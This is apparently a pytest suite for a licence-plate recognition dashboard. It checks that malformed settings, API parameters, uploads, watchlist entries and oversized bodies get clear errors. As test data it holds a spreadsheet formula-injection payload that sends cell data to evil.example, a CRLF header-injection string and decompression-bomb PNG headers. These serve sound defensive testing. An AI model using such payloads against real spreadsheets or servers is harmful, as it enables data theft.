"""Malformed input of every kind gets a clear 4xx or a clear sentence: never a 500, never a crash.

One table (``CASES``) covers settings, camera URLs, every query parameter of ``/api/plates`` and
``/api/plates.csv``, path parameters, uploads, watchlist entries, request bodies past their limit
(sent with a ``Content-Length`` or chunked: 413 before more is read) and the Plates page's search
linked in the URL. Routes are served by uvicorn on a loopback port over a real SQLite store, the
body cases behind the auth middleware as the dashboard serves them.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import struct
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pytest
import requests
from conftest import serving
from starlette.applications import Starlette
from test_pages_history import history_url, page, seeded_db  # noqa: F401  (fixtures of the page cases)
from test_store import plate_event

from issc.api import plate_routes
from issc.auth import Accounts, AuthMiddleware, Gate, auth_routes
from issc.config import load_settings, parse_cameras
from issc.errors import ConfigError
from issc.store import PlateFilter, Store
from issc.store.watchlist import watchlist_plate
from issc.uploads import UploadRejected, decode_upload

FORMULA_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"stolen")'


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Store]]:
    """A store with two events (one tagged by a formula-like watchlist label) behind a live server."""
    folder: Path = tmp_path_factory.mktemp("bad-input")
    store = Store(f"sqlite:///{folder}/issc.db", flush_interval_s=0.1).start()
    store.add_plate_event(
        plate_event(0, "gate", "LS15EBC", 0.9, FORMULA_LABEL, crop_jpeg=b"\xff\xd8\xff\xd9")
    )
    store.add_plate_event(plate_event(1, "-yard", "AB12CDE", 0.8, "@SUM(1+1)"))
    assert store.flush()
    with serving(Starlette(routes=plate_routes(lambda: store))) as url:
        yield url, store
    store.close()


@pytest.fixture(scope="module")
def guarded(served: tuple[str, Store]) -> Iterator[str]:
    """The plate routes and the login behind the auth middleware (AUTH=auto on loopback: open here)."""
    store = served[1]
    gate = Gate(load_settings().auth, Accounts(store.engine), bind_address="127.0.0.1")
    app = Starlette(routes=[*auth_routes(lambda: gate), *plate_routes(lambda: store)])
    with serving(AuthMiddleware(app, gate=lambda: gate)) as url:
        yield url


def _send_body(url: str, method: str, path: str, size: int, chunked: bool) -> tuple[int, str]:
    """Send ``size`` bytes (in 16 KiB pieces, never held whole); the status and body that came back."""
    host, port = url.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=30)
    conn.putrequest(method, path)
    conn.putheader("Content-Type", "application/json")
    conn.putheader(*(("Transfer-Encoding", "chunked") if chunked else ("Content-Length", str(size))))
    conn.endheaders()
    piece = b" " * 16384
    try:
        for _ in range(0, size, len(piece)):
            conn.send(b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece)
        if chunked:
            conn.send(b"0\r\n\r\n")
    except (BrokenPipeError, ConnectionResetError):
        pass  # answered and closed before the rest was read
    response = conn.getresponse()
    answer = response.status, response.read().decode()
    conn.close()
    return answer


# --- uploads -------------------------------------------------------------------------------------


def _png_header(width: int, height: int) -> bytes:
    """A PNG signature and IHDR chunk (with its CRC) claiming this size, and no pixels."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(ihdr)) + chunk + struct.pack(">I", zlib.crc32(chunk))


def _jpeg(width: int = 320, height: int = 240) -> bytes:
    image = np.random.default_rng(1).integers(0, 255, (height, width, 3), dtype=np.uint8)
    ok, data = cv2.imencode(".jpg", image)
    assert ok
    return data.tobytes()


def _tiff() -> bytes:
    import PIL.Image

    out = io.BytesIO()
    PIL.Image.new("RGB", (8, 8)).save(out, format="TIFF")
    return out.getvalue()


UPLOADS: dict[str, Any] = {
    "empty": b"",
    "text, not an image": b"hello, this is not a picture\n" * 10,
    "html named .jpg": b"<html><body>not a picture</body></html>",
    "truncated JPEG header": _jpeg()[:20],
    "50 MB file": b"\xff\xd8\xff\xe0" + bytes(50 * 1024 * 1024),
    "decompression bomb PNG 100000x100000": _png_header(100_000, 100_000),
    "PNG over the pixel cap 9000x9000": _png_header(9_000, 9_000),
    "HEIC (PIL cannot identify)": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64),
    "TIFF (not an accepted format)": _tiff(),
    "PNG header without pixels": _png_header(64, 64),
}


# --- the table -----------------------------------------------------------------------------------

CASES: list[tuple[str, Any]] = [
    # settings: load_settings with a bad environment -> ConfigError, one sentence naming the key
    ("config", {"DETECT_FPS": "fast"}),
    ("config", {"DETECT_FPS": "-1"}),
    ("config", {"JPEG_QUALITY": "1000"}),
    ("config", {"LOG_LEVEL": "LOUD"}),
    ("config", {"API_URL": "ftp://detect.example"}),
    ("config", {"DETECTOR": "magic"}),
    ("config", {"DETECTOR": "roboflow"}),
    ("config", {"DETECTOR": "onnx"}),
    ("config", {"PLATE_FORMATS": "AB#9"}),
    ("config", {"PLATE_LETTER_TO_DIGIT": "00"}),
    ("config", {"PLATE_REGION": "mars"}),
    ("config", {"RECONNECT_MAX_S": "nan"}),
    ("config", {"PLATE_DEDUPE_S": "1e309"}),
    ("config", {"MOTION_GATING": "maybe"}),
    ("config", {"STALE_AFTER_S": ""}),
    # camera URLs (CAMERAS): the password never appears in the sentence
    ("config", {"CAMERAS": "gate=rtsp://admin:S3cretPw@10.0.0.5/s1,/no/such.mp4"}),
    ("config", {"CAMERAS": "ftp://admin:S3cretPw@10.0.0.5/video"}),
    ("config", {"CAMERAS": "rtsp://admin:S3cretPw@/s1"}),
    ("config", {"CAMERAS": "rtsp://admin:S3cretPw@[::1/s1"}),
    ("config", {"CAMERAS": "admin:S3cretPw@10.0.0.5/s1"}),
    ("config", {"CAMERAS": "http://10.0.0.5/user=admin_password=S3cretPw_channel=1,/no/clip.mp4"}),
    ("config", {"CAMERAS": "x" * 5000}),
    # every query parameter of /api/plates and /api/plates.csv
    ("route", ("/api/plates", {"offset": "99999999999999999999"}, 400)),
    ("route", ("/api/plates", {"offset": "1e3"}, 400)),
    ("route", ("/api/plates", {"limit": "99999999999999999999"}, 400)),
    ("route", ("/api/plates", {"limit": "-5"}, 400)),
    ("route", ("/api/plates", {"limit": "9" * 5000}, 400)),
    ("route", ("/api/plates", {"q": "A" * 65}, 400)),
    ("route", ("/api/plates", {"q": "AB\x0012"}, 400)),
    ("route", ("/api/plates", {"camera": "g" * 201}, 400)),
    ("route", ("/api/plates", {"camera": "gate\r\nX-Evil: 1"}, 400)),
    ("route", ("/api/plates", {"since": "0001-01-01T00:00:00+14:00"}, 400)),
    ("route", ("/api/plates", {"until": "9999-12-31T23:59:59-14:00"}, 400)),
    ("route", ("/api/plates", {"since": "2024-02-30T00:00:00"}, 400)),
    ("route", ("/api/plates", {"min_conf": "nan"}, 400)),
    ("route", ("/api/plates", {"min_conf": "-inf"}, 400)),
    ("route", ("/api/plates", {"watchlist_only": "2"}, 400)),
    ("route", ("/api/plates", {"x" * 300: "1"}, 400)),
    ("route", ("/api/plates.csv", {"q": "Q" * 1000}, 400)),
    ("route", ("/api/plates.csv", {"camera": "c" * 1000}, 400)),
    ("route", ("/api/plates.csv", {"since": "yesterday"}, 400)),
    ("route", ("/api/plates.csv", {"until": "0001-01-01T00:00:00+05:00"}, 400)),
    ("route", ("/api/plates.csv", {"min_conf": "1.01"}, 400)),
    ("route", ("/api/plates.csv", {"watchlist_only": "perhaps"}, 400)),
    ("route", ("/api/plates.csv", {"offset": "1"}, 400)),
    # path parameters
    ("route", ("/api/plates/99999999999999999999/crop.jpg", {}, 400)),
    ("route", ("/api/plates/99999999999999999999/snapshot.jpg", {}, 400)),
    ("route", ("/api/plates/abc/crop.jpg", {}, 404)),
    ("route", ("/api/plates/-1/crop.jpg", {}, 404)),
    ("route", ("/api/plates/1.5/snapshot.jpg", {}, 404)),
    ("route", ("/api/plates/1/thumbnail.png", {}, 404)),
    ("route", ("/api/plates/123456789/crop.jpg", {}, 404)),
    ("route", ("/api/plates/%00/crop.jpg", {}, 404)),
    # uploads through issc.uploads.decode_upload
    *(("upload", name) for name in UPLOADS),
    # watchlist entries
    ("watchlist", ("", "stolen", None)),
    ("watchlist", ("!!! ---", "stolen", None)),
    ("watchlist", ("😀", "stolen", None)),
    ("watchlist", ("AB12CDE", "   ", None)),
    ("watchlist", ("AB12CDE", "stolen", -1)),
    # request bodies past their limit: (method, path, bytes, chunked)
    ("body", ("POST", "/auth/login", 16 * 1024 + 1, False)),
    ("body", ("POST", "/auth/login", 64 * 1024, True)),
    ("body", ("POST", "/auth/login", 50 * 1024 * 1024, False)),
    ("body", ("POST", "/auth/logout", 1024 * 1024, False)),
    ("body", ("PATCH", "/api/plates/1", 64 * 1024 + 1, False)),
    ("body", ("PATCH", "/api/plates/1", 1024 * 1024, True)),
    ("body", ("POST", "/_stcore/upload_file/session/file", 21 * 1024 * 1024, False)),
    ("body", ("GET", "/api/plates", 1024 * 1024, False)),
    # the Plates page's search linked in the URL: capped like the API's q (64)
    ("page", "A" * 65),
    ("page", "LS15EBC" * 9000),
]


def _case_id(case: tuple[str, Any]) -> str:
    kind, value = case
    if kind == "route":
        path, params, _ = value
        return f"route:{path}?{','.join(f'{k[:12]}={v[:20]!r}' for k, v in params.items())}"
    if kind == "body":
        method, path, size, chunked = value
        return f"body:{method} {path} {size} B{' chunked' if chunked else ''}"
    if kind == "page":
        return f"page:plates?q={value[:8]}…({len(value)} characters)"
    text = value if isinstance(value, str) else repr(value)
    return f"{kind}:{text[:60]}"


def _one_sentence(message: str) -> None:
    assert message and "\n" not in message and "Traceback" not in message, message
    assert message.rstrip().endswith((".", ")")), message
    assert len(message) < 600, message


def test_the_table_has_at_least_forty_cases() -> None:
    assert len(CASES) >= 40


@pytest.mark.parametrize("case", CASES, ids=[_case_id(c) for c in CASES])
def test_malformed_input_gets_a_clear_answer(
    case: tuple[str, Any], served: tuple[str, Store], monkeypatch: pytest.MonkeyPatch, request
) -> None:
    kind, value = case
    if kind == "config":
        # given a bad setting in the environment
        for key, raw in value.items():
            monkeypatch.setenv(key, raw)
        # then loading the settings fails with one sentence naming the key, without any password
        with pytest.raises(ConfigError) as caught:
            load_settings()
        message = str(caught.value)
        _one_sentence(message)
        assert any(key in message for key in value), message
        assert "S3cretPw" not in message
    elif kind == "route":
        path, params, status = value
        # when the route is asked with a malformed parameter
        response = requests.get(served[0] + path, params=params, timeout=10)
        # then it answers the expected 4xx as JSON with a sentence
        assert response.status_code == status, response.text[:300]
        assert response.headers["content-type"].startswith("application/json")
        error = response.json()["error"]
        assert error and len(error) < 400 and "Traceback" not in error
    elif kind == "upload":
        # when the upload is decoded
        try:
            image = decode_upload(UPLOADS[value])
        except UploadRejected as exc:
            _one_sentence(str(exc))  # refused with a sentence for the user
        else:  # or, for a damaged but identifiable picture, decoded within the limits
            assert image.ndim == 3 and image.shape[0] * image.shape[1] <= 40_000_000
    elif kind == "watchlist":
        plate, label, distance = value
        # when the entry is added, it is refused with a sentence and nothing is stored
        before = served[1].list_watchlist()
        with pytest.raises(ValueError) as caught:
            served[1].add_watchlist(plate, label, distance)
        assert str(caught.value).strip()
        assert served[1].list_watchlist() == before
    elif kind == "body":
        method, path, size, chunked = value
        # when a body past the route's limit is sent
        before = [(r.text, r.confirmed) for r in served[1].search_plates(PlateFilter(), limit=10)]
        status, body = _send_body(request.getfixturevalue("guarded"), method, path, size, chunked)
        # then it is refused with 413 and a sentence, and nothing changed
        assert status == 413, body[:300]
        _one_sentence(json.loads(body)["error"])
        assert [(r.text, r.confirmed) for r in served[1].search_plates(PlateFilter(), limit=10)] == before
    elif kind == "page":
        # when the Plates page is opened with a huge search in its link
        at = request.getfixturevalue("page")("plates.py", q=value).run()
        # then it searches for the first 64 characters only, and says so
        assert not at.exception
        assert at.text_input(key="q").value == value[:64]
        assert any("only its first 64" in w.value for w in at.warning)
    else:  # pragma: no cover - a typo in the table
        pytest.fail(f"unknown case kind {kind}")


def test_camera_urls_that_parse_show_no_password() -> None:
    cams = parse_cameras(
        "rtsp://admin:p@ss/w#rd@10.0.0.5/s1,http://10.0.0.6/user=admin_password=S3cretPw_channel=1"
    )
    shown = " ".join(c.display_source + c.name for c in cams)
    assert "S3cretPw" not in shown and "p@ss" not in shown and "w#rd" not in shown


def test_truncated_jpeg_is_decoded_or_refused_within_its_header_size() -> None:
    data = _jpeg(320, 240)
    try:
        image = decode_upload(data[: len(data) // 2])
    except UploadRejected as exc:
        _one_sentence(str(exc))
    else:
        assert image.shape[:2] == (240, 320)


def test_watchlist_plate_without_letters_or_digits_says_what_to_type() -> None:
    with pytest.raises(ValueError, match="LS15 EBC"):
        watchlist_plate("---")


def test_csv_cells_cannot_start_a_formula(served: tuple[str, Store]) -> None:
    # given events whose watchlist label and camera start like spreadsheet formulas
    response = requests.get(served[0] + "/api/plates.csv", timeout=10)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    # then no cell starts with = + - @, a tab or a carriage return
    cells = [cell for row in rows[1:] for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert "'" + FORMULA_LABEL in cells and "'@SUM(1+1)" in cells and "'-yard" in cells
